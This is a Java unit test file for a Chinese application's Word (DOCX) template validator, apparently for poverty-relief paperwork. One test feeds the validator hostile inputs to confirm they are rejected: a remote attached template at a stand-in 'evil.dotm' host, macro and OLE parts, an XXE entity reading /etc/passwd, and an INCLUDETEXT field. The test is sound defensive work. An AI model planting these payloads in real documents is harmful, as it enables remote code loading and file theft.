package cn.bangfu.paper;

import static org.assertj.core.api.Assertions.assertThat;

import cn.bangfu.shared.DivisionCode;
import cn.bangfu.testing.ApplicationTest;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.rendering.PDFRenderer;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.springframework.beans.factory.annotation.Autowired;

/** Templates: those that come along are sound, and what is not is refused by name. */
@ApplicationTest
class PaperTemplatesTest {

    private static final DivisionCode COUNTY = new DivisionCode("150625");

    @Autowired
    private PaperTemplates templates;

    @Autowired
    private PaperService papers;

    @ParameterizedTest
    @EnumSource
    void eachPaperThatComesAlongIsPrinted(PaperKind kind) throws IOException {
        assertThat(DocxTemplate.faults(PaperTemplates.shipped(kind), templates.fields(kind)))
                .isEmpty();
        var printed = papers.sample(kind, COUNTY);
        try (var pdf = Loader.loadPDF(printed)) {
            var text = new PDFTextStripper().getText(pdf);
            assertThat(text).contains("文书编号：〔文书编号〕", "第1页");
            assertThat(text).doesNotContain("{{", "}}", "[");
            look(kind.name(), pdf);
        }
    }

    /** For somebody who wants to see them: {@code BANGFU_LOOK=folder}. */
    static void look(String name, org.apache.pdfbox.pdmodel.PDDocument pdf) throws IOException {
        var folder = System.getenv("BANGFU_LOOK");
        if (folder != null) {
            Files.createDirectories(Path.of(folder));
            for (var i = 0; i < pdf.getNumberOfPages(); i++) {
                ImageIO.write(
                        new PDFRenderer(pdf).renderImageWithDPI(i, 70),
                        "png",
                        Path.of(folder, name + "-" + (i + 1) + ".png").toFile());
            }
        }
    }

    @Test
    void unknownPlacesAreNamed() throws IOException {
        var faults = faults("word/document.xml", "<w:t>", "<w:t>{{户主身份证}}");
        assertThat(faults).contains("户主身份证");
        assertThat(faults("word/document.xml", "{{户主}}", "{{户主.class}}")).contains("{{户主.class}}");
        assertThat(faults("word/header1.xml", "{{识别码}}", "")).contains("缺少{{识别码}}");
    }

    @Test
    void nothingOutsideAndNoMacroGetsIn() throws IOException {
        assertThat(faults(
                        "word/_rels/document.xml.rels",
                        "</Relationships>",
                        "<Relationship Id=\"rId99\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                                + " Target=\"http://example.org/evil.dotm\" TargetMode=\"External\"/></Relationships>"))
                .contains("外部内容", "evil.dotm");
        assertThat(faults("[Content_Types].xml", "document.main+xml", "document.macroEnabled.main+xml"))
                .contains("带宏");
        assertThat(faultsOf(with(template(), Map.of("word/vbaProject.bin", new byte[] {1}))))
                .contains("宏");
        assertThat(faultsOf(with(template(), Map.of("word/embeddings/oleObject1.bin", new byte[] {1}))))
                .contains("嵌有别的文件");
        assertThat(faults(
                        "word/document.xml", "<?xml", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><?xml"))
                .contains("损坏");
        assertThat(faults(
                        "word/document.xml",
                        "<w:sectPr",
                        "<w:r><w:instrText>INCLUDETEXT \"c:\\\\x\"</w:instrText></w:r><w:sectPr"))
                .contains("INCLUDETEXT");
        assertThat(faultsOf("PK no zip".getBytes(StandardCharsets.UTF_8))).contains("Word");
        assertThat(faultsOf(with(template(), Map.of("word/media/image9.png", new byte[30 << 20]))))
                .contains("过大");
    }

    private String faults(String part, String from, String to) throws IOException {
        var text = new String(DocxParts.read(template()).require(part), StandardCharsets.UTF_8);
        var changed =
                text.replaceFirst(java.util.regex.Pattern.quote(from), java.util.regex.Matcher.quoteReplacement(to));
        assertThat(changed).isNotEqualTo(text);
        return faultsOf(with(template(), Map.of(part, changed.getBytes(StandardCharsets.UTF_8))));
    }

    private static byte[] template() {
        return PaperTemplates.shipped(PaperKind.ENTERED);
    }

    private String faultsOf(byte[] docx) {
        return String.join("\n", DocxTemplate.faults(docx, templates.fields(PaperKind.ENTERED)));
    }

    private static byte[] with(byte[] docx, Map<String, byte[]> parts) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipInputStream(new ByteArrayInputStream(docx));
                var changed = new ZipOutputStream(out)) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                if (!parts.containsKey(entry.getName())) {
                    changed.putNextEntry(new ZipEntry(entry.getName()));
                    changed.write(zip.readAllBytes());
                }
            }
            for (var part : parts.entrySet()) {
                changed.putNextEntry(new ZipEntry(part.getKey()));
                changed.write(part.getValue());
            }
        }
        return out.toByteArray();
    }
}
